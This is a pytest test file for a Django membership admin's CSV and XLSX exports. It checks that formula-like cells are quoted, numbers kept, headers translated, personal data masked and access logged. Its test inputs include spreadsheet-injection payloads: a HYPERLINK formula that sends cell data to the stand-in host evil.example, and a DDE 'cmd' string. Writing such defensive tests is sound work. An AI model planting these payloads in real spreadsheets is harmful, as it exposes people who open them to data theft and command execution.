"""Admin exports of members and purchases: formulas quoted, numbers kept, labels translated, masked."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX

from config.common.exports import neutralise_dataset, neutralise_formula
from members.models import Channel
from members.privacy.models import AccessLog
from members.purchases.resources import PurchaseResource
from members.purchases.services import purchase_record
from members.resources import MemberExportResource
from tests.conftest import login
from tests.factories import MemberFactory, StoreFactory

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
BOM = b"\xef\xbb\xbf"
MEMBERS, PURCHASES = "admin:members_member_export", "admin:purchases_purchase_export"


def post_export(client, url_name: str, resource, fmt: str, **headers):
    """Export every column of ``resource`` as the admin's export form would post it."""
    prefix = resource.__name__.lower()
    data = {"format": fmt, "resource": "0", **{f"{prefix}_{f}": "on" for f in resource().get_export_order()}}
    response = client.post(reverse(url_name), data, headers=headers)
    assert response.status_code == 200, response.content[:500]
    assert response.get("Content-Disposition", "").startswith("attachment")
    return response


def csv_rows(response) -> list[list[str]]:
    assert response.content.startswith(BOM)  # Excel on Chinese Windows reads UTF-8 only with it
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


# --- the helper -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1", "-",
     "+86 138"],
)  # fmt: skip
def test_formula_like_text_is_quoted(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-12.50", "-3", "+3", " -3", "-1,234.50", "-.5", "1e3", "张伟", "a=b", "", None, -3, Decimal("-12.50"),
     datetime.date(2026, 3, 1)],
)  # fmt: skip
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_a_quoted_table_keeps_its_numbers_in_csv_and_xlsx():
    def table():
        return neutralise_dataset(
            tablib.Dataset(["=1+1", "-12.50", Decimal("-12.50"), None], headers=["a", "b", "c", "d"])
        )

    assert CSV().export_data(table()).splitlines()[1] == "'=1+1,-12.50,-12.50,"
    book = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(table())))
    formula, text_number, number, empty = next(book.active.iter_rows(min_row=2))
    assert (formula.value, formula.data_type) == ("'=1+1", "s")
    assert text_number.value == "-12.50"
    assert (number.value, number.data_type) == (-12.5, "n")
    assert empty.value is None


# --- members ------------------------------------------------------------------------------


@pytest.fixture
def evil_member(db):
    store = StoreFactory(code="S0001", name="上海徐汇店")
    return MemberFactory(
        name=EVIL, mobile="13900003333", birthday=datetime.date(1990, 5, 17), registration_store=store
    )


def test_member_csv_quotes_formulas_with_chinese_headers(client, operator, evil_member):
    rows = csv_rows(post_export(login(client, operator), MEMBERS, MemberExportResource, CSV_FORMAT))
    assert rows[0] == ["会员编号", "姓名", "手机号", "性别", "生日", "城市", "注册渠道", "注册门店", "状态"]
    (row,) = rows[1:]
    assert row[:3] == [evil_member.member_number, "'" + EVIL, "13900003333"]
    assert row[4] == "1990-05-17" and row[7] == "S0001" and row[8] == "正常"


def test_member_csv_headers_in_english_on_request(client, operator, evil_member):
    response = post_export(
        login(client, operator), MEMBERS, MemberExportResource, CSV_FORMAT,
        accept_language="en",
    )  # fmt: skip
    assert csv_rows(response)[0] == [
        "member number", "name", "mobile phone", "gender", "birthday", "city", "registration channel",
        "registration store", "status",
    ]  # fmt: skip


def test_member_xlsx_quotes_formulas(client, operator, evil_member):
    response = post_export(login(client, operator), MEMBERS, MemberExportResource, XLSX_FORMAT)
    header, row = xlsx_rows(response)
    assert [c.value for c in header][:3] == ["会员编号", "姓名", "手机号"]
    assert (row[1].value, row[1].data_type) == ("'" + EVIL, "s")
    assert row[4].value == datetime.datetime(1990, 5, 17)  # a real date cell, not text


def test_member_export_is_masked_for_a_user_without_personal_data(client, finance, evil_member):
    """Finance lists members masked; given the export permission, it exports them masked too."""
    finance.user_permissions.add(Permission.objects.get(codename="export_member"))
    rows = csv_rows(post_export(login(client, finance), MEMBERS, MemberExportResource, CSV_FORMAT))
    (row,) = rows[1:]
    assert row[1:3] == ["'" + EVIL[0] + "*" * (len(EVIL) - 1), "139****3333"]  # masked, and still quoted
    assert row[4] == "****-05-17"
    assert "13900003333" not in rows[1] and "1990" not in row[4]


def test_export_pages_need_the_export_permission(client, operator, store_staff, finance):
    login(client, operator)
    for name in [MEMBERS, PURCHASES]:
        assert client.get(reverse(name)).status_code == 200
    # the changelists link to their export pages
    assert reverse(MEMBERS) in client.get(reverse("admin:members_member_changelist")).text
    assert reverse(PURCHASES) in client.get(reverse("admin:purchases_purchase_changelist")).text
    login(client, finance)
    assert client.get(reverse(PURCHASES)).status_code == 200
    assert client.get(reverse(MEMBERS)).status_code == 403
    login(client, store_staff)
    for name in [MEMBERS, PURCHASES]:
        assert client.get(reverse(name)).status_code == 403


# --- purchases ----------------------------------------------------------------------------

AT = timezone.make_aware(datetime.datetime(2026, 3, 1, 10, 30))


def buy(member, order_number: str, *, paid: str = "88.50", store=None):
    purchase, _created = purchase_record(
        member=member, source="pos", order_number=order_number, channel=Channel.STORE, occurred_at=AT,
        gross_amount=Decimal("100.00"), paid_amount=Decimal(paid), shipping_amount=Decimal("6.00"),
        store=store,
    )  # fmt: skip
    return purchase


def test_purchase_csv_and_xlsx(client, operator, member):
    store = StoreFactory(code="S0002")
    buy(member, "-1+1", store=store)  # an order number a spreadsheet would compute
    login(client, operator)
    rows = csv_rows(post_export(client, PURCHASES, PurchaseResource, CSV_FORMAT))
    assert rows == [
        ["来源", "订单号", "渠道", "门店编码", "会员编号", "发生时间", "订单金额（元）", "实付金额（元）",
         "运费（元）", "已退款（元）", "状态"],
        ["pos", "'-1+1", "门店（POS）", "S0002", member.member_number, "2026-03-01 10:30:00", "100.00",
         "88.50", "6.00", "0.00", "已完成"],
    ]  # fmt: skip
    _header, row = xlsx_rows(post_export(client, PURCHASES, PurchaseResource, XLSX_FORMAT))
    assert row[1].value == "'-1+1"
    assert row[5].value == datetime.datetime(2026, 3, 1, 10, 30)  # local time, a date cell
    assert [c.value for c in row[6:10]] == [100, 88.5, 6, 0]
    assert all(c.data_type == "n" for c in row[6:10])


def test_purchase_export_reads_all_rows_in_one_query(client, operator, django_assert_max_num_queries):
    stores = [StoreFactory(code=f"Q{i:04d}") for i in range(3)]
    members = [MemberFactory() for _ in range(3)]
    for i in range(40):
        buy(members[i % 3], f"order-{i}", store=stores[i % 3])
    login(client, operator)
    for fmt in [CSV_FORMAT, XLSX_FORMAT]:
        with django_assert_max_num_queries(5):  # session, user, two permission lookups, the rows
            post_export(client, PURCHASES, PurchaseResource, fmt)


def test_member_export_reads_all_rows_in_one_query(client, operator, django_assert_max_num_queries):
    for i in range(40):
        MemberFactory(registration_store=StoreFactory(code=f"M{i % 4:04d}"))
    login(client, operator)
    # session, user, two permission lookups, stores and tags for the list filters, the rows, and
    # the access log's row (PIPL: the operator took 40 members' personal data)
    with django_assert_max_num_queries(8):
        post_export(client, MEMBERS, MemberExportResource, CSV_FORMAT)
    log = AccessLog.objects.get()
    assert (log.user, log.what, log.count) == (operator, AccessLog.What.MEMBER_EXPORT, 40)
